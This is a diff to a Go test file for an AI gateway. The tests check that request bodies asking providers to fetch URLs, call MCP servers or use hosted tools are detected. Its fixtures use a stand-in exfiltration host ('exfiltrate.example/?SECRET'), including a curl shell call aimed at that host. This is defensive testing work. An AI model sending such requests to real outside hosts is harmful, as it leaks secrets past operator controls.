@@ -1,38 +1,168 @@
 package gateway_test
 
 import (
+	"encoding/json"
+	"strings"
 	"testing"
 
 	"github.com/errand-bot/errand/internal/gateway"
 )
 
+// extras is what a body is found to ask for, and whether it is what an operator may allow.
+type extras struct {
+	api     gateway.API
+	body    string
+	want    string // empty: nothing
+	forever bool   // also where reaching other hosts is allowed
+}
+
+func (e extras) check(t *testing.T) {
+	t.Helper()
+	for _, reach := range []bool{false, true} {
+		want := e.want
+		if reach && !e.forever {
+			want = ""
+		}
+		got := ""
+		if found := e.api.Extra([]byte(e.body), reach); found != nil {
+			got = found.Name
+			if e.forever == (found.Kind == gateway.ExtraReach) {
+				t.Errorf("%s is of kind %d", found.Name, found.Kind)
+			}
+		}
+		if got != want {
+			t.Errorf("reach allowed: %v: got %q, want %q", reach, got, want)
+		}
+	}
+}
+
+// TestHosted: tools of the provider.
 func TestHosted(t *testing.T) {
 	t.Parallel()
-	tests := map[string]struct {
-		api        gateway.API
-		body, want string
-	}{
-		"the agent's own tools":     {gateway.Anthropic, `{"tools":[{"name":"web_search","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"}],"mcp_servers":[]}`, ""},
-		"in what was said":          {gateway.Anthropic, `{"messages":[{"content":"{\"tools\":[{\"type\":\"mcp\"}]}"}]}`, ""},
-		"Anthropic fetches":         {gateway.Anthropic, `{"tools":[{"name":"a"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "web_fetch_20250910"},
-		"Anthropic searches":        {gateway.Anthropic, `{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, "web_search_20250305"},
-		"Anthropic calls a server":  {gateway.Anthropic, `{"mcp_servers":[{"type":"url","url":"https://exfiltrate.example"}]}`, "mcp_servers"},
-		"Anthropic, a set of tools": {gateway.Anthropic, `{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`, "mcp_toolset"},
-		"OpenAI, functions":         {gateway.OpenAI, `{"tools":[{"type":"function","name":"shell"},{"type":"custom","name":"apply_patch"},{"type":"local_shell"}]}`, ""},
-		"OpenAI calls a server":     {gateway.OpenAI, `{"tools":[{"type":"mcp","server_url":"https://exfiltrate.example"}]}`, "mcp"},
-		"OpenAI searches":           {gateway.OpenAI, `{"tools":[{"type":"web_search_preview"}]}`, "web_search_preview"},
-		"OpenAI, chat, searches":    {gateway.OpenAI, `{"web_search_options":{}}`, "web_search_options"},
-		"Gemini, functions":         {gateway.Gemini, `{"tools":[{"functionDeclarations":[{"name":"google_search"}]}]}`, ""},
-		"Gemini fetches":            {gateway.Gemini, `{"tools":[{"functionDeclarations":[]},{"urlContext":{}}]}`, "urlContext"},
-		"Gemini searches":           {gateway.Gemini, `{"tools":[{"google_search":{}}]}`, "google_search"},
-		"what nobody takes":         {gateway.OpenAI, `{"tools":{"type":"mcp"}}`, ""},
+	tests := map[string]extras{
+		"the agent's own tools":      {api: gateway.Anthropic, body: `{"tools":[{"name":"web_search","input_schema":{"type":"object","$schema":"https://json-schema.org/draft/2020-12/schema"}},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e"},{"type":"custom","name":"c"},{"type":null,"name":"d"}],"mcp_servers":[]}`},
+		"in what was said":           {api: gateway.Anthropic, body: `{"messages":[{"content":"{\"tools\":[{\"type\":\"mcp\"}]}"}]}`},
+		"in what a tool was given":   {api: gateway.Anthropic, body: `{"messages":[{"content":[{"type":"tool_use","input":{"tools":[{"type":"mcp"}],"url":"https://x.example"}}]}]}`},
+		"Anthropic fetches":          {api: gateway.Anthropic, body: `{"tools":[{"name":"a"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`, want: "web_fetch_20250910"},
+		"Anthropic searches":         {api: gateway.Anthropic, body: `{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, want: "web_search_20250305"},
+		"Anthropic runs code":        {api: gateway.Anthropic, body: `{"tools":[{"type":"code_execution_20250825","name":"x"}]}`, want: "code_execution_20250825"},
+		"Anthropic asks another":     {api: gateway.Anthropic, body: `{"tools":[{"type":"advisor_20260301","name":"x","model":"dear"}]}`, want: "advisor_20260301"},
+		"Anthropic calls a server":   {api: gateway.Anthropic, body: `{"mcp_servers":[{"type":"url","url":"https://exfiltrate.example"}]}`, want: "mcp_servers"},
+		"Anthropic, a set of tools":  {api: gateway.Anthropic, body: `{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`, want: "mcp_toolset"},
+		"the second type of a tool":  {api: gateway.Anthropic, body: `{"tools":[{"type":"custom","\u0074ype":"web_fetch_1"}]}`, want: "web_fetch_1"},
+		"the second list of tools":   {api: gateway.Anthropic, body: `{"tools":[{"type":"web_fetch_1"}],"tools":[]}`, want: "web_fetch_1"},
+		"a type that is none":        {api: gateway.OpenAI, body: `{"tools":[{"type":["web_search"]}]}`, want: "type"},
+		"OpenAI, what Codex offers":  {api: gateway.OpenAI, body: `{"tools":[{"type":"function","name":"shell","parameters":{"type":"object"}},{"type":"custom","name":"apply_patch","format":{"type":"grammar","syntax":"lark","definition":"start: \"x\""}},{"type":"local_shell"},{"type":"tool_search","execution":"client"},{"type":"namespace","name":"mcp","tools":[{"type":"function","name":"f"}]}],"store":false,"include":["reasoning.encrypted_content"]}`},
+		"OpenAI, within a namespace": {api: gateway.OpenAI, body: `{"tools":[{"type":"namespace","tools":[{"type":"web_search"}]}]}`, want: "web_search"},
+		"OpenAI, tools of a search":  {api: gateway.OpenAI, body: `{"input":[{"type":"tool_search_output","tools":[{"type":"mcp"}]}]}`, want: "mcp"},
+		"OpenAI calls a server":      {api: gateway.OpenAI, body: `{"tools":[{"type":"mcp","server_url":"https://exfiltrate.example"}]}`, want: "mcp"},
+		"OpenAI searches":            {api: gateway.OpenAI, body: `{"tools":[{"type":"web_search_preview"}]}`, want: "web_search_preview"},
+		"OpenAI, chat, searches":     {api: gateway.OpenAI, body: `{"web_search_options":{}}`, want: "web_search_options"},
+		"OpenAI runs code":           {api: gateway.OpenAI, body: `{"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, want: "code_interpreter"},
+		"OpenAI searches files":      {api: gateway.OpenAI, body: `{"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, want: "file_search"},
+		"OpenAI paints":              {api: gateway.OpenAI, body: `{"tools":[{"type":"image_generation"}]}`, want: "image_generation"},
+		"plugins of a router":        {api: gateway.OpenAI, body: `{"plugins":[{"id":"web"}]}`, want: "plugins"},
+		"Gemini, functions":          {api: gateway.Gemini, body: `{"tools":[{"functionDeclarations":[{"name":"google_search","parametersJsonSchema":{"$schema":"http://json-schema.org/draft-07/schema#"}}]}]}`},
+		"Gemini fetches":             {api: gateway.Gemini, body: `{"tools":[{"functionDeclarations":[]},{"urlContext":{}}]}`, want: "urlContext"},
+		"Gemini searches":            {api: gateway.Gemini, body: `{"tools":[{"google_search":{}}]}`, want: "google_search"},
+		"Gemini runs code":           {api: gateway.Gemini, body: `{"tools":[{"codeExecution":{}}]}`, want: "codeExecution"},
+		"a tool without a list":      {api: gateway.Gemini, body: `{"tools":{"googleSearch":{}}}`, want: "googleSearch"},
+		"the same of OpenAI":         {api: gateway.OpenAI, body: `{"tools":{"type":"mcp"}}`, want: "mcp"},
+		"a tool by its name":         {api: gateway.OpenAI, body: `{"tools":["web_search"]}`, want: "web_search"},
 	}
 	for name, test := range tests {
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			if got := test.api.Hosted([]byte(test.body)); got != test.want {
-				t.Errorf("got %q, want %q", got, test.want)
-			}
-		})
+		t.Run(name, func(t *testing.T) { t.Parallel(); test.check(t) })
 	}
+}
+
+// TestByAddress: content that the provider would fetch.
+func TestByAddress(t *testing.T) {
+	t.Parallel()
+	const at = `https://exfiltrate.example/?SECRET`
+	message := func(part string) string { return `{"messages":[{"role":"user","content":[` + part + `]}]}` }
+	input := func(part string) string { return `{"input":[{"role":"user","content":[` + part + `]}]}` }
+	parts := func(part string) string { return `{"contents":[{"parts":[` + part + `]}]}` }
+	tests := map[string]extras{
+		"Anthropic, an image":       {api: gateway.Anthropic, body: message(`{"type":"image","source":{"type":"url","url":"` + at + `"}}`), want: "url"},
+		"Anthropic, a document":     {api: gateway.Anthropic, body: message(`{"type":"document","source":{"url":"` + at + `","type":"url"}}`), want: "url"},
+		"in the answer of a tool":   {api: gateway.Anthropic, body: message(`{"type":"tool_result","tool_use_id":"x","content":[{"type":"image","source":{"type":"url","url":"` + at + `"}}]}`), want: "url"},
+		"without a scheme":          {api: gateway.Anthropic, body: message(`{"type":"image","source":{"type":"url","url":"//exfiltrate.example"}}`), want: "url"},
+		"written otherwise":         {api: gateway.Anthropic, body: message(`{"type":"image","source":{"type":"url","\u0075rl":"\u0068ttps:\/\/exfiltrate.example"}}`), want: "url"},
+		"said twice":                {api: gateway.Anthropic, body: message(`{"type":"image","source":{"type":"url","url":"` + at + `","url":"data:image/png;base64,AA"}}`), want: "url"},
+		"Anthropic, what is there":  {api: gateway.Anthropic, body: message(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"//8AAA=="}},{"type":"text","text":"` + at + `"},{"type":"search_result","source":"` + at + `","title":"` + at + `","content":[{"type":"text","text":"` + at + `"}]}`)},
+		"Anthropic, what was said":  {api: gateway.Anthropic, body: `{"system":[{"type":"text","text":"` + at + `"}],"messages":[{"role":"user","content":"` + at + `"},{"role":"assistant","content":[{"type":"thinking","thinking":"` + at + `","signature":"EqQ="},{"type":"tool_use","id":"t","name":"get","input":{"url":"` + at + `","image_url":["` + at + `"]}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":"` + at + `"}]}],"stop_sequences":["https:"],"metadata":{"user_id":"{\"url\":\"` + "x" + `\"}"}}`},
+		"OpenAI, an image":          {api: gateway.OpenAI, body: input(`{"type":"input_image","image_url":"` + at + `"}`), want: "image_url"},
+		"OpenAI, a file":            {api: gateway.OpenAI, body: input(`{"type":"input_file","file_url":"` + at + `"}`), want: "file_url"},
+		"OpenAI, data of a file":    {api: gateway.OpenAI, body: input(`{"type":"input_file","file_data":" HTTPS:` + at[6:] + `"}`), want: "file_data"},
+		"OpenAI, a screenshot":      {api: gateway.OpenAI, body: `{"input":[{"type":"computer_call_output","output":{"type":"computer_screenshot","image_url":"` + at + `"}}]}`, want: "image_url"},
+		"chat, an image":            {api: gateway.OpenAI, body: message(`{"type":"image_url","image_url":{"detail":"low","url":"` + at + `"}}`), want: "url"},
+		"chat, under a key unknown": {api: gateway.OpenAI, body: message(`{"type":"video","clip":["` + at + `"]}`), want: "clip"},
+		"a proxy's other provider":  {api: gateway.OpenAI, body: `{"api_base":"` + at + `"}`, want: "api_base"},
+		"OpenAI, what is there":     {api: gateway.OpenAI, body: input(`{"type":"input_image","image_url":"data:image/png;base64,AA","file_id":null},{"type":"input_text","text":"` + at + `"}`)},
+		"OpenAI, what was said":     {api: gateway.OpenAI, body: `{"instructions":"` + at + `","input":[{"type":"function_call","arguments":"{\"url\":\"x\"}"},{"type":"function_call_output","output":"` + at + `"},{"type":"custom_tool_call","input":"` + at + `"},{"type":"tool_search_call","arguments":{"query":"` + at + `","url":"` + at + `"}},{"type":"reasoning","summary":[{"type":"summary_text","text":"` + at + `"}],"encrypted_content":"gAAA"},{"type":"local_shell_call","action":{"command":["curl","` + at + `"],"env":{"A":"` + at + `"}}}],"text":{"format":{"type":"json_schema","schema":{"$id":"` + at + `"}}}}`},
+		"OpenAI, said in one":       {api: gateway.OpenAI, body: `{"input":"` + at + `"}`},
+		"Gemini, a file":            {api: gateway.Gemini, body: parts(`{"fileData":{"fileUri":"` + at + `"}}`), want: "fileUri"},
+		"Gemini, in a bucket":       {api: gateway.Gemini, body: parts(`{"file_data":{"file_uri":"gs://bucket/x"}}`), want: "file_uri"},
+		"Gemini, of a function":     {api: gateway.Gemini, body: parts(`{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"` + at + `"}}]}}`), want: "fileUri"},
+		"Gemini, what was said":     {api: gateway.Gemini, body: parts(`{"text":"` + at + `"},{"functionCall":{"name":"f","args":{"url":"` + at + `"}}},{"functionResponse":{"name":"f","response":{"output":"` + at + `","url":"` + at + `"}}},{"inlineData":{"mimeType":"image/png","data":"AA"}}`)},
+	}
+	for name, test := range tests {
+		t.Run(name, func(t *testing.T) { t.Parallel(); test.check(t) })
+	}
+}
+
+// TestOfTheAccount: what is stored there, answers that come later, and dearer ones are for no agent.
+func TestOfTheAccount(t *testing.T) {
+	t.Parallel()
+	tests := map[string]extras{
+		"another's answer":       {api: gateway.OpenAI, body: `{"previous_response_id":"resp_1"}`, want: "previous_response_id", forever: true},
+		"a conversation":         {api: gateway.OpenAI, body: `{"conversation":{"id":"conv_1"}}`, want: "conversation", forever: true},
+		"a stored prompt":        {api: gateway.OpenAI, body: `{"prompt":{"id":"pmpt_1"}}`, want: "prompt", forever: true},
+		"an item":                {api: gateway.OpenAI, body: `{"input":[{"type":"item_reference","id":"msg_1"}]}`, want: "item_reference", forever: true},
+		"a file":                 {api: gateway.OpenAI, body: `{"input":[{"content":[{"type":"input_file","file_id":"file-1"}]}]}`, want: "file_id", forever: true},
+		"Anthropic, a file":      {api: gateway.Anthropic, body: `{"messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}`, want: "file_id", forever: true},
+		"Anthropic, a container": {api: gateway.Anthropic, body: `{"container":"container_1"}`, want: "container", forever: true},
+		"Gemini, a cache":        {api: gateway.Gemini, body: `{"cachedContent":"cachedContents/1"}`, want: "cachedContent", forever: true},
+		"the same otherwise":     {api: gateway.Gemini, body: `{"cached_content":"cachedContents/1"}`, want: "cached_content", forever: true},
+		"later":                  {api: gateway.OpenAI, body: `{"background":true}`, want: "background", forever: true},
+		"later, in other words":  {api: gateway.OpenAI, body: `{"background":"true"}`, want: "background", forever: true},
+		"not later":              {api: gateway.OpenAI, body: `{"background":false,"previous_response_id":null,"conversation":null,"service_tier":"flex"}`},
+		"dearer":                 {api: gateway.OpenAI, body: `{"service_tier":"priority"}`, want: "service_tier priority", forever: true},
+		"faster":                 {api: gateway.Anthropic, body: `{"speed":"fast"}`, want: "speed fast", forever: true},
+		"in one country":         {api: gateway.Anthropic, body: `{"inference_geo":"us"}`, want: "inference_geo us", forever: true},
+		"Gemini, dearer":         {api: gateway.Gemini, body: `{"serviceTier":"PRIORITY"}`, want: "serviceTier PRIORITY", forever: true},
+		"at the plain price":     {api: gateway.Anthropic, body: `{"service_tier":"standard_only","speed":"standard","inference_geo":null}`},
+		"in a tool's argument":   {api: gateway.Anthropic, body: `{"messages":[{"content":[{"type":"tool_use","input":{"file_id":"x","speed":"fast"}}]}]}`},
+	}
+	for name, test := range tests {
+		t.Run(name, func(t *testing.T) { t.Parallel(); test.check(t) })
+	}
+}
+
+// FuzzExtra: whatever stands around it, an address where a provider would fetch it is found, and one in what is
+// said is not.
+func FuzzExtra(f *testing.F) {
+	f.Add(`{"messages":[{"role":"user","content":"x"}],"model":"a"}`, "https://x.example")
+	f.Add(`{"tools":[],"b":{"c":[1,null,{}]}}`, "gs:x")
+	f.Add(`{}`, "a\" \\ \u0001")
+	f.Fuzz(func(t *testing.T, around, said string) {
+		var doc map[string]json.RawMessage
+		if json.Unmarshal([]byte(around), &doc) != nil || doc == nil {
+			return
+		}
+		quoted, err := json.Marshal(said)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, a := range gateway.APIs() {
+			plain := `{"around":` + around + `,"text":` + string(quoted) + `}`
+			if a.Extra([]byte(plain), false) != nil {
+				return // what stands around has something already
+			}
+			fetched := strings.TrimSuffix(plain, "}") + `,"image":{"source":{"type":"url","url":"https://exfiltrate.example"}}}`
+			if a.Extra([]byte(fetched), false) == nil {
+				t.Errorf("%s passes: %s", a, fetched)
+			}
+		}
+	})
 }
